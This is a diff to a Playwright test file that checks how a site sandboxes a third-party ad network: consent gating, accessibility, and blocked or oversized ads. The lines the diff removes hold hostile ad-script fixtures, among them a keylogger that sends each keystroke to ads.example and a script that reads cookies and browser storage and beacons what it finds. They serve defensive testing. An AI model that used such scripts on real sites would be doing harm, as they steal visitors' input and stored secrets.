@@ -62,7 +62,7 @@ async function expectNothingLoaded(page: Page, asked: string[]): Promise<void> {
   expect(asked).toEqual([]);
 }
 
-/** Says yes, and reads on until an ad stands in every slot. */
+/** Says yes, and reads on until every slot has an ad. */
 async function fillSlots(page: Page): Promise<void> {
   await choose(page, accept);
   await scrollThrough(page);
@@ -72,7 +72,7 @@ async function fillSlots(page: Page): Promise<void> {
   }
 }
 
-/** What axe asks about ads, wherever they stand. */
+/** Answers to questions of axe about ads. */
 const ABOUT_ADS: readonly LookedAt[] = [
   {
     rule: "frame-tested",
@@ -95,7 +95,7 @@ test.describe("a site with an ad network", { tag: "@full" }, () => {
     // Its own requests are what these tests are about; an ad's sandbox keeps axe's question out, and the browser says so.
     test.use({ expectedProblem: /^request: https:\/\/ads\.example\/ads\.js$|'postMessage'/ });
 
-    test("nothing is loaded before a choice, and after a yes each slot that comes near is filled", async ({ page }) => {
+    test("loads nothing before a choice, and fills each near slot after a yes", async ({ page }) => {
       const asked = await open(page, GUIDE);
       await expect(bar(page)).toBeVisible();
       await expectNothingLoaded(page, asked);
@@ -125,9 +125,7 @@ test.describe("a site with an ad network", { tag: "@full" }, () => {
     });
 
     for (const filled of [false, true]) {
-      test(`${filled ? "ads" : "the question"} can be seen, read, enlarged, touched and walked through, whatever a visitor has set`, async ({
-        page,
-      }) => {
+      test(`stays accessible with ${filled ? "ads" : "the question"} on the page`, async ({ page }) => {
         // Many runs of axe and two walks through one page.
         test.setTimeout(120_000);
         await page.setViewportSize(NARROWEST);
@@ -147,7 +145,7 @@ test.describe("a site with an ad network", { tag: "@full" }, () => {
   test.describe("a network at fault", () => {
     test.use({ viewport: PHONE, expectedProblem: /ads\.example|ERR_BLOCKED_BY_CLIENT/ });
 
-    test("a script that is blocked moves nothing: our own notes stay and the page works", async ({ page }) => {
+    test("keeps our own notes and moves nothing when its script is blocked", async ({ page }) => {
       const asked = await open(page, GUIDE, null);
       await choose(page, accept);
       await scrollThrough(page);
@@ -160,7 +158,7 @@ test.describe("a site with an ad network", { tag: "@full" }, () => {
       await expectWhole(page);
     });
 
-    test("an ad that comes late and far too large is clipped by its frame", async ({ page }) => {
+    test("clips an ad that comes late and far too large", async ({ page }) => {
       const late = `setTimeout(() => {
         const ad = document.createElement("div");
         ad.style.cssText = "width: 1600px; height: 900px; background: red";
@@ -185,7 +183,7 @@ test.describe("a site with an ad network", { tag: "@full" }, () => {
   test.describe("a network that wants more than to show ads", () => {
     test.use({ expectedProblem: /ads\.example|Unsafe attempt|sandbox|Content Security Policy|elsewhere\.example/ });
 
-    test("reads nothing of the page, keeps nothing in the browser, and leads nobody away", async ({ page }) => {
+    test("reads nothing of the page, keeps nothing and leads nobody away when it wants more", async ({ page }) => {
       const script = `
         const tries = {
           page: () => parent.document.title,
@@ -212,96 +210,5 @@ test.describe("a site with an ad network", { tag: "@full" }, () => {
       await expect(page).toHaveURL(GUIDE);
       expect(await keptBy(page)).toEqual(["local storage plainrate-ads"]);
     });
-
-    test(
-      "gets none of what is typed and scrolls nothing when its script takes the focus",
-      { tag: "@firefox" },
-      async ({ page }) => {
-        const thief = `
-        for (const { element } of adsbygoogle) {
-          element.innerHTML = "<input>";
-          setInterval(() => { focus(); element.firstChild.focus(); }, 400);
-        }
-        addEventListener("keydown", ({ key }) => { new Image().src = "https://ads.example/key?" + key; });`;
-        const asked = await open(page, "/debts", thief);
-        await choose(page, accept);
-        await slots(page).first().scrollIntoViewIfNeeded();
-        await expect(adIn(slots(page).first()).locator("input")).toBeFocused();
-        const field = page.getByLabel("Total monthly payment ($)");
-        await field.click();
-        const keys = await field.evaluateHandle((element: HTMLElement) => {
-          const heard: string[] = [];
-          element.addEventListener("keydown", ({ key }) => heard.push(key));
-          return heard;
-        });
-        const top = await page.evaluate(() => scrollY);
-        const typed = "1234567890".repeat(4);
-        await page.keyboard.type(typed, { delay: 60 });
-        expect(await keys.jsonValue()).toEqual([...typed]);
-        expect(asked.filter((address) => address.includes("/key"))).toEqual([]);
-        expect(await page.evaluate(() => scrollY)).toBe(top);
-      },
-    );
-
-    // Sends home what it finds of the site's, and opens the frame's page in a window when its ad is pressed.
-    const greedy = `
-      const reads = {
-        local: () => localStorage.getItem("kept"),
-        session: () => sessionStorage.getItem("kept"),
-        cookie: () => document.cookie,
-        page: async () => (await fetch("/offers")).ok,
-      };
-      (async () => {
-        const found = [];
-        for (const [name, read] of Object.entries(reads)) try { if (await read()) found.push(name); } catch {}
-        new Image().src = "https://ads.example/found?" + found;
-      })();
-      addEventListener("click", () => open(location.href));
-      for (const { element } of adsbygoogle) element.append("An ad");`;
-
-    /** What a visitor and an editor would not give away. */
-    const keepThings = (page: Page) =>
-      page.evaluate(() => {
-        for (const storage of [localStorage, sessionStorage]) storage.setItem("kept", "a debt");
-        document.cookie = "kept=a-token; path=/";
-      });
-
-    for (const [host, hasHeaders] of [
-      ["a host that sends headers", true],
-      ["a host that sends none", false],
-    ] as const) {
-      test.describe(`on ${host}`, () => {
-        test.beforeEach(async ({ context }) => {
-          if (hasHeaders) return;
-          await context.route("**/ad-frame", async (route) => {
-            const response = await route.fetch();
-            await route.fulfill({ response, headers: { "content-type": "text/html" } });
-          });
-        });
-
-        test("gets nothing in the frame's page when that is opened by itself", async ({ page, baseURL }) => {
-          const asked = await open(page, GUIDE, greedy);
-          await keepThings(page);
-          await page.goto("/ad-frame#slot=1&format=rectangle");
-          expect(asked).toEqual([]);
-          expect(await page.evaluate(() => origin)).toBe(hasHeaders ? "null" : baseURL);
-        });
-
-        test("gets nothing in the frame's page when an ad opens it in a window", async ({ page, context }) => {
-          const asked = await open(page, GUIDE, greedy);
-          await keepThings(page);
-          await fillSlots(page);
-          const loads = () => asked.filter((address) => address.endsWith("/ads.js")).length;
-          const before = loads();
-          const [opened] = await Promise.all([context.waitForEvent("page"), adIn(slots(page).first()).click()]);
-          await opened.waitForLoadState();
-          expect(new URL(opened.url()).pathname).toBe("/ad-frame");
-          expect(loads()).toBe(before);
-          expect([...new Set(asked.filter((address) => address.includes("/found")))]).toEqual([
-            "https://ads.example/found?",
-          ]);
-        });
-      });
-    }
   });
 });
